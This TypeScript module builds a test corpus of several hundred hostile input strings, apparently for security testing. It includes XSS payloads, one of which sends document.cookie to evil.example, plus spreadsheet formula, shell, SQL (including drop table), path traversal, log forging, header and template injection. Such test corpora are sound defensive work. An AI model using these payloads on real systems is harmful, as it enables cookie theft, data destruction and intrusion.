/** Elements that a payload would make carry this, so that one that came to life is seen. */
export const MARK = 'data-dosi';
/** What a forged line of a log would begin with. */
export const FORGED = 'FORGED-LINE';

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart'];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'object data=x',
  'math',
  'marquee',
  'a href=javascript:alert(1)',
  'form action=javascript:alert(1)',
];
const BREAKS = [
  '',
  ' ',
  '</style>',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '`',
  '/>',
];
const SCRIPTS = ['alert(1)', 'import("//evil.example/x.js")', 'fetch("//evil.example?"+document.cookie)'];
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '//evil.example/x',
  'https://evil.example/"onclick=alert(1)',
];
const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("//evil.example","x")',
  '\t=1',
  '＝1+1',
  '＋1',
  "'=1",
  '"=1',
  ';=1',
  '=IMPORTXML("//evil.example","//a")',
  '=DDE("x";"y")',
];
const SHELL = [
  '$(touch /tmp/dosi)',
  '`touch /tmp/dosi`',
  "'; touch /tmp/dosi #",
  '"; touch /tmp/dosi #',
  '| touch /tmp/dosi',
  '&& touch /tmp/dosi',
  `\${IFS}`,
  '$env:PATH',
  '@{x=1}',
  "'@",
  '"@',
  '%{if true}',
  `\${file("/etc/passwd")}`,
  '#{x}',
  '<<EOF',
  'EOF',
  '\\',
  '*',
  '~root',
  '!!',
];
const SQL = [
  "' or '1'='1",
  "'; drop table finding; --",
  '" or ""="',
  "') or ('1'='1",
  '1; select pg_sleep(9)',
  "' union select body from audit_log --",
  '%',
  '_',
  '\\%',
  '$$; drop table scan; $$',
  "E'\\\\'",
  "x' and randomblob(1000000000) --",
];
const PATHS = [
  '../../etc/passwd',
  '..\\..\\windows',
  '/etc/passwd',
  'C:\\x',
  '....//....//x',
  '%2e%2e%2fx',
  'con',
  'nul.txt',
  '.',
  '..',
  'a/../../b',
  'file:///etc/passwd',
  '\\\\evil\\share',
  'x/./y',
];
const LOGS = [
  `x\r\n${FORGED} admin signed in`,
  `x\n{"log":"audit","action":"${FORGED}"}`,
  `\u001b[2J\u001b[31m${FORGED}`,
  `x\u2028${FORGED}`,
  `x\u0085${FORGED}`,
  `x\\n${FORGED}`,
  `"},{"action":"${FORGED}"}`,
  `\b\b\b${FORGED}`,
];
const UNICODE = [
  '\u202Egnp.exe',
  'a\u200Bb',
  '\uFEFFx',
  'á́́́',
  '👩‍👩‍👧‍👦',
  'ﷺ',
  '\u0000x',
  'half \uD800',
  '\uDC00',
  'a\u0301'.repeat(40),
  'İıſK',
  '＜script＞',
  '\u00AD',
  '\u2066x\u2069',
  'x'.repeat(900),
];
const HEADERS = [
  'x\r\nset-cookie: dosi=1',
  'x"; filename="evil.exe',
  'x%0d%0aLocation: //evil.example',
  'x\'; a="b',
  "name*=UTF-8''x",
];
const TEMPLATES = [
  '{{7*7}}',
  `\${7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  'null',
  'undefined',
  'true',
  'NaN',
  '-0',
  '1e309',
];

const markup = (): string[] =>
  TAGS.flatMap((tag, row) =>
    BREAKS.map((close, column) => {
      const handler = HANDLERS[(row + column) % HANDLERS.length];
      const script = SCRIPTS[(row * 7 + column) % SCRIPTS.length];
      return `${close}<${tag} ${MARK}=1 ${handler}=${script}>`;
    }),
  );
const scripts = (): string[] =>
  BREAKS.flatMap((close) => [
    `${close}<script ${MARK}=1>alert(1)</script>`,
    `${close}<style ${MARK}>*{display:none}</style>`,
  ]);

/** Text that attacks whatever shows, stores, prints, exports or runs it: each once, more than three hundred. */
export const CORPUS: readonly string[] = [
  ...new Set([
    ...markup(),
    ...scripts(),
    ...SCHEMES,
    ...FORMULAS,
    ...SHELL,
    ...SQL,
    ...PATHS,
    ...LOGS,
    ...UNICODE,
    ...HEADERS,
    ...TEMPLATES,
  ]),
];
